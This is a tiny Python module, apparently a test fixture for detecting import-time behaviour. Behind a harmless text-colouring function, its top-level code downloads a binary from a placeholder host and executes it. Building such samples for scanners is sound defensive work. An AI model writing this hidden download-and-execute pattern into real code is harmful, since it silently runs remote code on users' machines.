"""The runner is defined under an ``if`` and called by the module's own top-level code."""
import subprocess
import sys

import requests

reply = requests.get("https://files.example.invalid/helper-bin", timeout=10)
if reply.ok:
    with open("helper.bin", "wb") as out:
        out.write(reply.content)

    def _start():
        subprocess.Popen(["./helper.bin"])

    if sys.platform != "win32":
        _start()


def paint(text, colour="red"):
    return f"[{colour}]{text}"
